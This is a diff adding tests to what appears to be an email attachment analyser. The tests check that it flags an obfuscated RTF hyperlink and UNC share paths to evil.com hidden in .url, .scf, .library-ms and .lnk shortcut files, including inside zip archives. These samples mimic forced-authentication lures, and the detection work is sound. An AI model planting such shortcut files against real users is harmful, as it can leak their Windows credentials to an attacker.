@@ -135,3 +135,17 @@ def test_threat_61_an_address_that_an_rtf_document_spells_in_digits_is_a_link() 
     document = b'{\\rtf1 {\\field{\\*\\fldinst HYPERLINK "ht\\\'74p://evil.com/x"}}}'
     for entity in (attachment(b"a.rtf", document), attachment(b"a.zip", zipped({"a.rtf": document}))):
         assert [link.host for link in take_apart(mail(entity)).leads] == ["evil.com"]
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("a.url", b"[InternetShortcut]\r\nURL=about:blank\r\nIconFile=\\\\evil.com\\x.ico\r\n"),
+        ("a.scf", b"[Shell]\r\nIconFile=\\\\evil.com@80\\x\\y.ico\r\n"),
+        ("a.library-ms", b"<?xml version='1.0'?><simpleLocation><url>\\\\evil.com\\share</url></simpleLocation>"),
+        ("a.lnk", bytes.fromhex("4c0000000114020000000000c000000000000046") + "\\\\evil.com\\x".encode("utf-16-le")),
+    ],
+)
+def test_shares_that_shortcuts_and_libraries_point_to_are_links(name: str, content: bytes) -> None:
+    for part in (attachment(name.encode(), content), attachment(b"a.zip", zipped({name: content}))):
+        assert [link.host for link in take_apart(mail(part)).leads] == ["evil.com"]
